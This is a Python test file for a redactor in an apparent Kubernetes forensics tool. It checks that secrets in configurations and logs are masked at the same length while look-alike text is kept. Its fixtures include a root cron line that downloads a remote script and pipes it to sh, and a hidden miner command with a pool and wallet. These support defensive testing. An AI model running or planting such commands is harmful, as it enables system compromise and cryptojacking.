"""What is secret is overwritten, with its length; what only looks like it stays."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kubewitness.collect.secrets import Redactor, holds_private_key, mark, names_a_secret

PEM = b"-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7Qx\nq9Zk0c3b/+==\n-----END RSA PRIVATE KEY-----\n"
CERTIFICATE = b"-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUDummy\n-----END CERTIFICATE-----\n"
JWT = b"eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6YTpiIn0.c2lnbmF0dXJlLXRoYXQtbGV0cy1pbg"


def configuration(text: bytes) -> bytes:
    return Redactor(configuration=True).whole(text)


def log(text: bytes) -> bytes:
    return Redactor(configuration=False).whole(text)


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (b"users:\n- name: a\n  user:\n    token: Zm9vYmFyYmF6\n", b"Zm9vYmFyYmF6"),
        (b'    password: "hunter2 and more"\n', b"hunter2 and more"),
        (b"    client-key-data: " + base64.b64encode(PEM) + b"\n", base64.b64encode(PEM)[80:]),
        (b'{"auths":{"registry.example":{"auth":"dXNlcjpwYXNz"}}}', b"dXNlcjpwYXNz"),
        (b'  [plugins.registry.auth]\n    password = "s3cr3tvalue"\n', b"s3cr3tvalue"),
        (b'Environment="DB_PASSWORD=opensesame" "LEVEL=3"\n', b"opensesame"),
        (b"AWS_SECRET_ACCESS_KEY=abcdEFGH/ijkl\n", b"abcdEFGH/ijkl"),
        (b"ExecStart=/usr/bin/agent --token abcdefgh --level 3\n", b"abcdefgh"),
        (b"ExecStart=/usr/bin/agent --join-token=abcdefgh\n", b"abcdefgh"),
        (b"HTTPS_PROXY=http://me:hushhush@proxy.example:3128\n", b"hushhush"),
        (b"    - name: API_TOKEN\n      value: topsecretvalue\n", b"topsecretvalue"),
        (b"kind: Secret\nmetadata:\n  name: x\nstringData:\n  u: admin\n  note: |\n    line of text\n",
        b"line of text"),
        (b"apiVersion: v1\ndata:\n  user: YWRtaW4=\nkind: Secret\nmetadata:\n  name: x\n", b"YWRtaW4="),
        (b"providers:\n- aescbc:\n    keys:\n    - name: key1\n      secret: c2VjcmV0IGlz\n", b"c2VjcmV0IGlz"),
    ],
)  # fmt: skip
def test_a_secret_of_a_configuration_is_overwritten_in_its_length(text: bytes, secret: bytes) -> None:
    kept = configuration(text)
    assert secret not in kept
    assert len(kept) == len(text)
    assert kept.count(b"\n") == text.count(b"\n")
    assert b"REDACTED" in kept or len(secret) < 8


@pytest.mark.parametrize(
    "text",
    [
        CERTIFICATE,
        b"authentication:\n  anonymous:\n    enabled: true\n  webhook:\n    cacheTTL: 2m0s\n",
        b"    - --token-auth-file=/etc/kubernetes/tokens.csv\n    - --service-account-key-file=/etc/x.pub\n",
        b"users:\n- name: a\n  user:\n    tokenFile: /var/lib/token\n    client-key: /var/lib/kubelet/pki/x.pem\n",
        b"    password: /run/secrets/password\n    auth: true\n    token: ${TOKEN}\n",
        b"  volumes:\n  - name: creds\n    secret:\n      secretName: database\n",
        b"    - name: API_TOKEN\n      valueFrom:\n        secretKeyRef:\n          key: password\n",
        b"    - name: LOG_LEVEL\n      value: debug\n",
        b"kind: ConfigMap\ndata:\n  user: admin\n",
        b"KUBELET_EXTRA_ARGS=--anonymous-auth=true --authorization-mode=AlwaysAllow\n",
        b"PasswordAuthentication yes\nAuthorizedKeysFile .ssh/authorized_keys\n",
        b"*/5 * * * * root curl http://203.0.113.9/a.sh | sh\n",
        b"ExecStart=/bin/x --token --level 3\n",
    ],
)
def test_what_only_resembles_a_secret_stays(text: bytes) -> None:
    assert configuration(text) == text


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (PEM, b"q9Zk0c3b"),
        (b'msg="' + PEM.replace(b"\n", b"\\n") + b'" next=1\n', b"q9Zk0c3b"),
        (b"Authorization: Bearer " + JWT + b"\n", b"c2lnbmF0dXJl"),
        (b"kubeadm join 10.0.0.1:6443 --token abcdef.0123456789abcdef --x\n", b"0123456789abcdef"),
        (b'{"objectRef":{"resource":"secrets"},"requestObject":{"data":{"k":"czNjcjN0"}}}\n', b"czNjcjN0"),
        (
            b'{"objectRef":{"resource":"secrets"},"m":"{\\"kind\\":\\"Secret\\",\\"data\\":{\\"k\\":\\"czNjcjN0\\"}}"}\n',
            b"czNjcjN0",
        ),
    ],
)  # fmt: skip
def test_what_is_secret_beyond_doubt_is_overwritten_in_logs_too(text: bytes, secret: bytes) -> None:
    kept = log(text)
    assert secret not in kept
    assert len(kept) == len(text)


@pytest.mark.parametrize(
    "text",
    [
        CERTIFICATE,
        b"password = hunter2 in a log is as it was logged\n",
        b"./.system -o pool.example:3333 -u 46EPFzvnX5GH61ejkPpNcRNm8kVjs8oHS9VwCkKRCrJX27XEW2y -p GesichtsKirmes\n",
        b'{"objectRef":{"resource":"configmaps"},"requestObject":{"data":{"k":"visible"}}}\n',
        b"image abcdef.0123456789abcdef pulled\n",
    ],
)
def test_the_rest_of_a_log_stays(text: bytes) -> None:
    assert log(text) == text


def test_the_claims_of_a_token_stay_so_that_it_tells_whose_it_was() -> None:
    kept = log(JWT + b"\n")
    assert kept.startswith(JWT.rpartition(b".")[0] + b".REDACTED")


def test_a_key_that_spans_chunks_is_overwritten() -> None:
    text = b"before\n" + PEM + b"after\n"
    kept = b"".join(Redactor(configuration=False).chunks(text[at : at + 7] for at in range(0, len(text), 7)))
    assert kept.startswith(b"before\n-----BEGIN RSA PRIVATE KEY-----\nREDACTED")
    assert kept.endswith(b"-----END RSA PRIVATE KEY-----\nafter\n")
    assert b"q9Zk" not in kept


@given(st.lists(st.binary(max_size=60), max_size=8), st.booleans())
def test_as_many_bytes_come_out_as_went_in(chunks: list[bytes], strict: bool) -> None:
    kept = b"".join(Redactor(configuration=strict).chunks(chunks))
    assert len(kept) == len(b"".join(chunks))


@pytest.mark.parametrize(
    "unit", [b" ", b"a", b"-", b"token=", b"eyJ", b"LS0tLS1CRUdJTi", b'"data":{', b"kind: Secret", b"://"]
)
def test_no_text_takes_long(unit: bytes) -> None:
    text = b"kind: Secret\ndata:\n" + unit * (300_000 // len(unit)) + b"\n"
    assert len(configuration(text)) == len(text)


def test_counts_and_names() -> None:
    redactor = Redactor(configuration=True)
    redactor.whole(b"a: 1\npassword: aaaaaaaa\ntoken: bbbbbbbb\n")
    assert redactor.count == 2
    assert mark(12) == b"REDACTED-RED"
    assert names_a_secret(b"DB_PASSWORD")
    assert names_a_secret(b"clientSecret")
    assert not names_a_secret(b"secretName")
    assert holds_private_key(PEM)
    assert not holds_private_key(CERTIFICATE)
